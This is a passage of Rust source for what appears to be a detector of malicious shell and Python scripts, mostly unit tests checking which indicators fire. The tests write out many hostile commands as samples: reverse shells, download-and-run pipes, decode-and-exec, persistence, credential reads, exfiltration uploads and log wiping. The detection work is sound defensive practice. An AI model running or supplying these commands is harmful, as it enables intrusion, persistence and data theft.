            assert_eq!(lines.bits, want_bits, "{text:?}");
            for _ in 0..100 {
                let (a, b) = ((next() as usize) % (len + 1), (next() as usize) % (len + 1));
                let (lo, hi) = (a.min(b), a.max(b));
                let want_last = memchr::memrchr(b'\n', &text[lo..hi]).map(|i| lo + i);
                let want_first = memchr::memchr(b'\n', &text[lo..hi]).map(|i| lo + i);
                assert_eq!(lines.last_in(lo, hi), want_last, "{lo}..{hi} of {text:?}");
                assert_eq!(lines.first_in(lo, hi), want_first, "{lo}..{hi} of {text:?}");
            }
        }
    }

    #[test]
    fn matcher_finds_what_an_overlapping_search_finds() {
        let literals = all_literals();
        let matcher = LiteralMatcher::new(&literals);
        let ac = aho_corasick::AhoCorasick::new(&literals).unwrap();
        let mut texts: Vec<String> = vec![
            String::new(),
            "@".into(),
            "nc".into(),
            "".into(),
            "ReV".into(),
        ];
        // Every literal alone, after a prefix, upper-cased; all run together
        // (long texts cross the lane boundaries with hits on them).
        for lit in &literals {
            texts.push(lit.clone());
            texts.push(format!("x {lit}"));
            texts.push(lit.to_ascii_uppercase());
        }
        texts.push(literals.concat());
        texts.push(literals.join(" "));
        texts.push(literals.join("\n").repeat(7));
        let alphabet: Vec<u8> = {
            let mut a: Vec<u8> = literals.iter().flat_map(|l| l.bytes()).collect();
            a.sort_unstable();
            a.dedup();
            a
        };
        let mut x = 0x2545_f491_4f6c_dd1du64;
        let mut next = move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        };
        for _ in 0..300 {
            // Random bytes of the literals themselves: dense, overlapping hits.
            let len = (next() % 700) as usize;
            let text: Vec<u8> = (0..len)
                .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
                .collect();
            texts.push(String::from_utf8(text).unwrap());
            // Literal prefixes spliced together: near misses and hits across lanes.
            let mut spliced = String::new();
            for _ in 0..(next() % 300) {
                let lit = &literals[(next() % literals.len() as u64) as usize];
                let cut = (next() as usize % lit.len()) + 1;
                spliced.push_str(&lit[..cut]);
            }
            texts.push(spliced);
        }
        for text in &texts {
            assert_eq!(
                matched(&matcher, literals.len(), text),
                reference(&ac, text),
                "{text:?}"
            );
        }
    }
}

/// The windows as one haystack (joined by newlines), so each confirming regex
/// runs once however many windows there are.
fn gather<'a>(bytes: &'a [u8], windows: &[(usize, usize)]) -> std::borrow::Cow<'a, [u8]> {
    match windows {
        [(s, e)] => std::borrow::Cow::Borrowed(&bytes[*s..*e]),
        _ => {
            let mut joined = Vec::with_capacity(windows.iter().map(|(s, e)| e - s + 1).sum());
            for &(s, e) in windows {
                joined.extend_from_slice(&bytes[s..e]);
                joined.push(b'\n');
            }
            std::borrow::Cow::Owned(joined)
        }
    }
}

/// Where the newlines of a text are, one bit per byte: finding the line around
/// a hit is a bit scan of a word or two, where `memchr` on a short range costs
/// a call and its setup (a dense script builds about a thousand windows).
struct Newlines {
    bits: Vec<u64>,
    len: usize,
}

impl Newlines {
    /// One word of bits per 64 bytes, built 16 bytes at a time (SSE2 compares
    /// on x86_64): an indicator-dense script has a newline every 30 bytes or
    /// so, and `memchr_iter` paid a call and its setup for each of them.
    fn new(bytes: &[u8]) -> Self {
        let mut blocks = bytes.chunks_exact(64);
        let mut bits: Vec<u64> = Vec::with_capacity(bytes.len().div_ceil(64));
        bits.extend((&mut blocks).map(|b| newline_mask(b.try_into().expect("64 bytes"))));
        let tail = blocks.remainder();
        if !tail.is_empty() {
            bits.push(
                tail.iter()
                    .enumerate()
                    .fold(0, |m, (i, &b)| m | (u64::from(b == b'\n') << i)),
            );
        }
        Newlines {
            bits,
            len: bytes.len(),
        }
    }

    /// The last newline in `lo..hi`, as `memrchr` on that range finds it.
    fn last_in(&self, lo: usize, hi: usize) -> Option<usize> {
        if lo >= hi {
            return None;
        }
        let mut w = (hi - 1) / 64;
        let mut word = self.bits[w] & (u64::MAX >> (63 - (hi - 1) % 64));
        loop {
            if word != 0 {
                let i = w * 64 + 63 - word.leading_zeros() as usize;
                return (i >= lo).then_some(i);
            }
            if w * 64 <= lo {
                return None;
            }
            w -= 1;
            word = self.bits[w];
        }
    }

    /// The first newline in `lo..hi`, as `memchr` on that range finds it.
    fn first_in(&self, lo: usize, hi: usize) -> Option<usize> {
        if lo >= hi {
            return None;
        }
        let mut w = lo / 64;
        let mut word = self.bits[w] & (u64::MAX << (lo % 64));
        loop {
            if word != 0 {
                let i = w * 64 + word.trailing_zeros() as usize;
                return (i < hi).then_some(i);
            }
            w += 1;
            if w * 64 >= hi {
                return None;
            }
            word = self.bits[w];
        }
    }
}

/// Bit i set iff byte i of the block is a newline.
#[cfg(target_arch = "x86_64")]
fn newline_mask(block: &[u8; 64]) -> u64 {
    use std::arch::x86_64::*;
    let mut mask = 0u64;
    for lane in 0..4 {
        // SAFETY: SSE2 is always available on x86_64; the load reads 16 bytes inside `block`.
        let bits = unsafe {
            let v = _mm_loadu_si128(block.as_ptr().add(lane * 16) as *const __m128i);
            _mm_movemask_epi8(_mm_cmpeq_epi8(v, _mm_set1_epi8(b'\n' as i8))) as u16
        };
        mask |= u64::from(bits) << (lane * 16);
    }
    mask
}

#[cfg(not(target_arch = "x86_64"))]
fn newline_mask(block: &[u8; 64]) -> u64 {
    block
        .iter()
        .enumerate()
        .fold(0, |m, (i, &b)| m | (u64::from(b == b'\n') << i))
}

/// The stretches of text a confirming regex has to look at: around every hit of
/// an anchor literal, the line before, the line itself and the line after (for
/// `cd /tmp` then `./x`), at most `WINDOW_REACH` bytes either side of the hit.
/// A confirming regex always contains one of its anchor literals, so matches
/// outside these windows cannot exist, except across a cut (budget, reach).
fn windows(lines: &Newlines, anchors: &[usize], positions: &Positions) -> Vec<(usize, usize)> {
    // The anchors' hits in ascending order, merged lazily: each literal's list is
    // ascending, and hits inside the window just built are passed over, so the
    // walk stops after a few windows (the budget) without sorting every hit.
    let mut lists: Vec<&[u32]> = anchors
        .iter()
        .map(|&l| &positions[l])
        .filter(|l| !l.is_empty())
        .collect();
    let mut merged: Vec<(usize, usize)> = Vec::new();
    let mut total = 0usize;
    // Hits before `cursor` are inside the last window.
    let mut cursor = 0usize;
    loop {
        let mut next = usize::MAX;
        let mut k = 0;
        while k < lists.len() {
            // A linear skip: every hit is passed over once in all, and most
            // lists move by a hit or two per window.
            let list = &mut lists[k];
            while list.first().is_some_and(|&q| (q as usize) < cursor) {
                *list = &list[1..];
            }
            match list.first() {
                Some(&q) => {
                    next = next.min(q as usize);
                    k += 1;
                }
                // Spent: the order of the lists does not matter.
                None => {
                    lists.swap_remove(k);
                }
            }
        }
        if next == usize::MAX {
            break;
        }
        let p = next;
        let floor = p.saturating_sub(WINDOW_REACH);
        let ceil = (p + WINDOW_REACH).min(lines.len);
        let start = match lines.last_in(floor, p) {
            // The line before too.
            Some(nl) => lines.last_in(floor, nl).map_or(floor, |i| i + 1),
            None => floor,
        };
        let end = match lines.first_in(p, ceil) {
            // The line after too.
            Some(nl) => lines.first_in(nl + 1, ceil).unwrap_or(ceil),
            None => ceil,
        };
        match merged.last_mut() {
            Some(last) if start <= last.1 => {
                total += end.saturating_sub(last.1);
                last.1 = last.1.max(end);
            }
            _ => {
                total += end - start;
                merged.push((start, end));
            }
        }
        cursor = merged.last().map_or(0, |last| last.1);
        if total >= REGEX_BUDGET {
            break;
        }
    }
    merged
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fired(text: &str) -> Vec<&'static str> {
        Indicators::get()
            .evaluate(text)
            .into_iter()
            .zip(INDICATORS)
            .filter(|(on, _)| *on)
            .map(|(_, d)| d.id)
            .collect()
    }

    fn fires(text: &str, id: &str) -> bool {
        fired(text).contains(&id)
    }

    #[test]
    fn shell_escapes_through_wrappers_and_raw_tcp() {
        for text in [
            "chrt 1 /bin/sh",
            "doas -u root /bin/sh",
            "ip netns exec foo /bin/sh",
        ] {
            assert!(fires(text, "wrapper_runs_shell"), "{text}");
        }
        for text in [
            "useradd -m -s /bin/bash app",
            "docker exec -it web /bin/bash",
            "ln -sf bash /bin/sh",
            "ssh host /bin/bash",
        ] {
            assert!(!fires(text, "wrapper_runs_shell"), "{text}");
        }
        for text in [
            "rpm --eval '%(/bin/sh 1>&2)'",
            "vi -c ':!/bin/sh </dev/tty'",
            "zip x.zip /etc/hosts -T -TT '/bin/sh #'",
        ] {
            assert!(fires(text, "shell_tied_to_terminal"), "{text}");
        }
        assert!(!fires("exec /bin/sh -c \"$@\"", "shell_tied_to_terminal"));
        for text in [
            "gawk 'BEGIN { s = \"/inet/tcp/0/h/1\" }'",
            "perl -MIO::Socket::INET -e 'x'",
            "nc host.example 9001 < /etc/passwd",
            "lua -e 'local s=require(\"socket\")'",
        ] {
            assert!(fires(text, "raw_tcp_channel"), "{text}");
        }
        assert!(!fires(
            "openssl s_client -connect example.com:443",
            "raw_tcp_channel"
        ));
        // Shebang and comment lines name the shell; they do not spawn it.
        assert!(!fires(
            "#! /bin/sh\n# run from init=/bin/sh\necho ok",
            "shell_spawn_argument"
        ));
        assert!(!fires(
            "find . -name '*.mkv' -exec /tmp/rename.sh {} \\;",
            "exec_from_tmp"
        ));
        assert!(fires("export HISTFILE=\"/dev/null\"", "history_wipe"));
        assert!(!fires(
            "cat /proc/sys/kernel/yama/ptrace_scope",
            "security_tools_disabled"
        ));
        assert!(fires(
            "echo 0 > /proc/sys/kernel/yama/ptrace_scope",
            "security_tools_disabled"
        ));
    }

    #[test]
    fn credential_search_auth_tamper_macos_persistence_log_erase() {
        assert!(fires(
            "find / -name id_rsa 2>/dev/null",
            "credential_file_search"
        ));
        assert!(fires(
            "security dump-keychain -d login.keychain",
            "credential_file_search"
        ));
        assert!(!fires(
            "find . -name '*.py' -delete",
            "credential_file_search"
        ));
        assert!(fires(
            "sudo sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers",
            "auth_config_tamper"
        ));
        assert!(!fires("sudo visudo -c", "auth_config_tamper"));
        assert!(fires(
            "sudo cp x.plist /Library/LaunchDaemons/com.x.plist",
            "macos_launch_persistence"
        ));
        assert!(fires("sudo log erase --all", "log_wipe"));
        assert!(fires(
            "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
            "container_api_abuse"
        ));
        assert!(fires(
            "curl -k https://10.0.0.5:10250/pods",
            "container_api_abuse"
        ));
        assert!(!fires("docker ps -a", "container_api_abuse"));
        assert!(!fires("sudo journalctl -u nginx -f", "log_wipe"));
    }

    #[test]
    fn word_gates_change_no_result() {
        let ind = Indicators::get();
        let mut texts: Vec<String> = vec![
            "nc -lvp 4444".into(),
            "function once() { sync; }\nnc -e /bin/sh 1.2.3.4 9\n".into(),
            "x|nc 1.2.3.4 9 -l\n".into(),
            "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 1.2.3.4 9 > /tmp/f".into(),
            "socat tcp-listen:4444 exec:/bin/sh".into(),
            "openssl s_server -quiet -key k -cert c -port 4444".into(),
            "NC.traditional -l -p 1".into(),
            "encode nc|sh".into(),
            "touch -r /bin/ls x; date -s 2020".into(),
            "update validate touchy\ntimedatectl set-time 1".into(),
            "x = evaluate(y); executor(z)\nexec(a)".into(),
            "eval (b)".into(),
            "c''url http://x | w\"\"get -q; s$@h x".into(),
            "echo ''; x=\"\" ; a$@ ;''b".into(),
            "''url".into(),
            "c''".into(),
            "curl http://45.77.1.20/x; ssh root@203.0.113.5".into(),
            "curl https://example.com/x; git@github.com:x; http://127.0.0.1/".into(),
            "s.connect(( '198.51.100.7', 4444))".into(),
            "http://\n45.1.2.3 user@\n8.8.8.8".into(),
        ];
        // Hits on window edges: long lines cut WINDOW_REACH from a hit, so a
        // mid-word `nc` can start or end a window (a word edge in the haystack).
        for pad in [
            0usize, 1, 2, 3, 509, 510, 511, 512, 513, 514, 1020, 1024, 1030,
        ] {
            for word in [
                "xnc",
                "ncx",
                "nc",
                "encat",
                "netcatx",
                "xnetcat",
                "xdate",
                "touchx",
                "exec",
                "xeval",
                "c''url",
                "w\"\"get",
                "s$@h",
                "http://1.2.3.4",
                "a@9.9.9.9",
                "@x",
            ] {
                let a = "a".repeat(pad);
                texts.push(format!("{a}{word} -l -p 1 {a} nc\n"));
                texts.push(format!("nc {a}{word}|sh -l{a}\n"));
                texts.push(format!("{a}ncat{a}{word} -e /bin/sh\n"));
                texts.push(format!("{a}\n{word} -l\n{a}x{word}|sh"));
                texts.push(format!(
                    "{a}{word}(x) {word} -d 20200101 -r f\n{a}{word} (y)"
                ));
            }
        }
        // More hits than Positions keeps.
        texts.push(format!("{}nc -l 1", "once ".repeat(MAX_POSITIONS + 10)));
        for text in &texts {
            assert_eq!(
                ind.evaluate_gated(text, true),
                ind.evaluate_gated(text, false),
                "{text:?}"
            );
        }
        assert!(fires("x\nnc -lvp 4444", "network_listener"));
        assert!(!fires("function once() { sync -l; }", "network_listener"));
    }

    #[test]
    fn ids_are_unique() {
        let mut ids: Vec<_> = INDICATORS.iter().map(|d| d.id).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), INDICATORS.len());
    }

    #[test]
    fn download_and_run() {
        assert!(fires(
            "curl -fsSL http://x.y/i.sh | sudo bash",
            "download_pipe_interpreter"
        ));
        assert!(fires(
            "wget -qO- http://h/p | sh -s",
            "download_pipe_interpreter"
        ));
        assert!(fires(
            "bash -c \"$(curl -fsSL https://h/install)\"",
            "download_pipe_interpreter"
        ));
        assert!(fires(
            "python3 <(curl -s http://h/x.py)",
            "download_pipe_interpreter"
        ));
        assert!(!fires(
            "curl -o out.tgz https://h/x.tgz && tar xf out.tgz",
            "download_pipe_interpreter"
        ));
        assert!(fires(
            "curl -fsSL http://198.51.100.7/x.sh | sh",
            "download_ip_pipe_shell"
        ));
        assert!(!fires(
            "curl -fsSL https://get.docker.com | sh",
            "download_ip_pipe_shell"
        ));
        assert!(fires(
            "wget http://h/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
            "download_then_chmod_x"
        ));
        assert!(fires(
            "wget http://h/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
            "chmod_x_in_tmp"
        ));
        assert!(fires(
            "wget http://h/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
            "exec_from_tmp"
        ));
        assert!(fires("curl -o /dev/shm/k http://h/k", "download_to_tmp"));
    }

    #[test]
    fn reverse_shells() {
        assert!(fires("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "dev_tcp"));
        assert!(fires(
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "shell_io_redirect"
        ));
        assert!(fires("nc -e /bin/sh 10.0.0.1 4242", "netcat_shell"));
        assert!(fires(
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
            "netcat_shell"
        ));
        assert!(!fires("rsync -av src/ dst/", "netcat_shell"));
        assert!(fires(
            "socat tcp-connect:1.2.3.4:4444 exec:/bin/sh,pty",
            "socat_shell"
        ));
        let py = "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")";
        for id in [
            "python_socket_shell",
            "pty_spawn",
            "python_socket",
            "shell_escape_spawn",
        ] {
            assert!(fires(py, id), "{id} on {py}");
        }
    }

    #[test]
    fn decode_and_exec() {
        assert!(fires(
            "echo ZWNobyBoaQ== | base64 -d | bash",
            "shell_decode_exec"
        ));
        assert!(fires(
            "eval \"$(echo aWQ= | base64 --decode)\"",
            "shell_decode_exec"
        ));
        assert!(fires(
            "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))",
            "python_decode_exec"
        ));
        assert!(fires("exec(zlib.decompress(b'x'))", "python_decode_exec"));
        assert!(!fires(
            "data = base64.b64decode(s)\nprint(data)",
            "python_decode_exec"
        ));
        assert!(fires(
            "x = '\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48'",
            "hex_escaped_bytes"
        ));
    }

    #[test]
    fn persistence() {
        assert!(fires(
            "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
            "cron_persistence"
        ));
        assert!(fires(
            "echo '@reboot root /tmp/x' >> /etc/crontab",
            "cron_persistence"
        ));
        assert!(!fires("crontab -l", "cron_persistence"));
        assert!(fires(
            "cat > /etc/systemd/system/x.service <<EOF",
            "systemd_initd_persistence"
        ));
        assert!(fires(
            "echo /usr/lib/x.so > /etc/ld.so.preload",
            "ld_so_preload"
        ));
        assert!(fires(
            "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
            "ssh_authorized_keys"
        ));
        assert!(fires(
            "echo 'nc -e /bin/sh h 1' >> ~/.bashrc",
            "shell_rc_persistence"
        ));
    }

    #[test]
    fn defense_evasion_and_impact() {
        assert!(fires(
            "./xmrig -o stratum+tcp://pool:3333 -u wallet",
            "crypto_miner"
        ));
        assert!(fires("history -c; unset HISTFILE", "history_wipe"));
        assert!(fires("cat /dev/null > ~/.bash_history", "history_wipe"));
        assert!(fires(": > /root/.bash_history", "history_wipe"));
        // Seeding history for a desktop image is not wiping it.
        assert!(!fires(
            "echo \"winecfg\" >> /home/user/.bash_history",
            "history_wipe"
        ));
        assert!(fires("cat /dev/null > /var/log/auth.log", "log_wipe"));
        assert!(fires("rm -rf /var/log/*", "log_wipe"));
        // A package removing its own log on purge is not log wiping.
        assert!(!fires("rm -f /var/log/fontconfig.log", "log_wipe"));
        assert!(fires(
            "setenforce 0; systemctl stop firewalld",
            "security_tools_disabled"
        ));
        assert!(fires("ufw disable", "security_tools_disabled"));
        assert!(!fires("systemctl stop nginx", "security_tools_disabled"));
        assert!(fires("chattr +i /etc/ld.so.preload", "chattr_lock"));
        assert!(fires(
            "pkill -f xmrig; pkill -f kdevtmpfsi",
            "kill_competitors"
        ));
    }

    #[test]
    fn credentials_and_exfil() {
        assert!(fires("cat /etc/shadow", "credential_access"));
        assert!(fires("strings /proc/self/environ", "credential_access"));
        assert!(!fires(
            "echo \"u ALL=NOPASSWD: /bin/mount\" >> /etc/sudoers",
            "credential_access"
        ));
        assert!(!fires(". /etc/environment", "credential_access"));
        assert!(fires(
            "curl http://169.254.169.254/latest/meta-data/iam/",
            "cloud_metadata"
        ));
        assert!(fires(
            "requests.post('https://discord.com/api/webhooks/1/x', data=d)",
            "exfil_service"
        ));
        assert!(fires("curl -F 'f=@/etc/passwd' http://h/up", "curl_upload"));
    }

    #[test]
    fn raw_ip_excludes_loopback() {
        assert!(fires("curl http://45.9.148.3/x", "raw_ip_url"));
        assert!(!fires("curl http://127.0.0.1:8080/health", "raw_ip_url"));
        assert!(!fires("curl http://169.254.169.254/", "raw_ip_url"));
    }

    #[test]
    fn obfuscation() {
        let chrs = "x=chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116)+chr(32)+chr(111)";
        assert!(fires(chrs, "python_chr_obfuscation"));
        assert!(fires("exec('tropmi'[::-1])", "string_reversal"));
        assert!(fires("c''url http://h | sh", "shell_quote_splitting"));
        assert!(fires(
            "__import__('os').system('id')",
            "python_dynamic_import"
        ));
        assert!(fires(
            "a=\"xyz\"; ${a:0:1}${a:1:1}${a:2:1}${a:0:1}",
            "shell_var_slicing"
        ));
    }

    #[test]
    fn shells_spawned_from_other_programs() {
        assert!(fires("psql\n\\! /bin/sh", "shell_spawn_argument"));
        assert!(fires(
            "rpmquery --eval '%(/bin/sh 1>&2)'",
            "shell_spawn_argument"
        ));
        assert!(!fires("#!/bin/sh\necho hi", "shell_spawn_argument"));
        let setup = "from setuptools.command.install import install\nclass X(install):\n    pass\nsetup(cmdclass={'install': X})";
        assert!(fires(setup, "setup_py_custom_command"));
        assert!(fires(
            "import os\nos.system('curl http://h/x | sh')\nsetup(name='x')",
            "python_toplevel_command"
        ));
        assert!(!fires(
            "import os\ndef f():\n    os.system('ls')\n",
            "python_toplevel_command"
        ));
    }

    #[test]
    fn shell_escapes_through_ordinary_binaries() {
        for text in [
            "sudo find . -exec /bin/sh \\; -quit",
            "vim -c ':!/bin/sh'",
            "less /etc/hosts\n!/bin/sh",
            "awk 'BEGIN {system(\"/bin/sh\")}'",
            "pdflatex --shell-escape '\\immediate\\write18{/bin/sh}'",
            "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
            "lua -e 'os.execute(\"/bin/sh\")'",
        ] {
            assert!(fires(text, "binary_shell_escape"), "{text}");
        }
        // Running a script through sh per file is ordinary find usage.
        assert!(!fires(
            "find . -name '*.txt' -exec sh -c 'mv \"$0\" \"${0%.txt}.md\"' {} \\;",
            "binary_shell_escape"
        ));
        assert!(!fires("#!/bin/sh\nexec \"$@\"", "binary_shell_escape"));
    }

    #[test]
    fn history_listeners_suid_containers_injection_timestamps() {
        assert!(fires("cat /root/.bash_history", "shell_history_read"));
        assert!(!fires(
            "echo \"winecfg\" >> /home/user/.bash_history",
            "shell_history_read"
        ));
        assert!(!fires(
            "echo \"winecfg\" >> /home/user/.bash_history",
            "credential_access"
        ));
        assert!(fires("nc -lvnp 4242", "network_listener"));
        assert!(fires(
            "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
            "network_listener"
        ));
        assert!(!fires("nc -z db 5432", "network_listener"));
        assert!(fires(
            "find / -perm -4000 -type f 2>/dev/null",
            "suid_capability_abuse"
        ));
        assert!(fires(
            "setcap cap_setuid+ep /usr/bin/python3",
            "suid_capability_abuse"
        ));
        assert!(!fires(
            "setcap cap_net_bind_service=+ep /usr/sbin/nginx",
            "suid_capability_abuse"
        ));
        assert!(fires(
            "docker run --rm -it --cap-add=SYS_ADMIN --security-opt apparmor=unconfined ubuntu bash",
            "privileged_container"
        ));
        assert!(fires("cat${IFS}/etc/passwd", "ifs_evasion"));
        assert!(fires("touch -r /bin/ls /tmp/x", "timestomp"));
        assert!(fires("date 010100001971", "timestomp"));
        assert!(!fires("date +%F", "timestomp"));
        assert!(fires(
            "dd of=/var/log/syslog if=/dev/zero count=1",
            "log_wipe"
        ));
        assert!(!fires(
            "GO111MODULE=on go build -o /usr/bin/transfer.sh",
            "exfil_service"
        ));
        assert!(fires(
            "curl --upload-file ./k https://transfer.sh/k",
            "exfil_service"
        ));
        // Building the requestbin service is not sending data to one.
        assert!(!fires(
            "git clone --depth 1 https://github.com/Runscope/requestbin /src",
            "exfil_service"
        ));
    }

    #[test]
    fn python_downloaders_are_words() {
        assert!(fires(
            "import os\nos.system('curl -s http://h/x -o x.sh')",
            "python_download_exec"
        ));
        assert!(!fires(
            "curline = self.text.get('insert')\n# not in subprocess\n",
            "python_download_exec"
        ));
        assert!(!fires(
            "MovedModule('tkinter_scrolledtext')\nrequests.get(u)",
            "windows_exe_dropper"
        ));
    }

    #[test]
    fn python_packers() {
        assert!(fires(
            "# Obfuscated with BlankOBF\n_____=eval(\"\\x65\\166\\x61\\154\")",
            "python_packer"
        ));
        assert!(fires(
            "_____=eval(\"\\x65\\166\\x61\\154\")",
            "python_escaped_eval"
        ));
        assert!(!fires(
            "handlers = map(lambda _: None, xs)\n# ______________\n",
            "python_packer"
        ));
    }

    #[test]
    fn benign_scripts_stay_quiet() {
        let script = "#!/bin/sh\nset -e\nif [ -f /etc/default/foo ]; then . /etc/default/foo; fi\nexec /usr/sbin/foo --config /etc/foo.conf \"$@\"\n";
        assert!(fired(script).is_empty(), "{:?}", fired(script));
        let py = "import argparse\n\ndef main():\n    p = argparse.ArgumentParser()\n    p.add_argument('x')\n    print(p.parse_args().x)\n";
        assert!(fired(py).is_empty(), "{:?}", fired(py));
    }
}
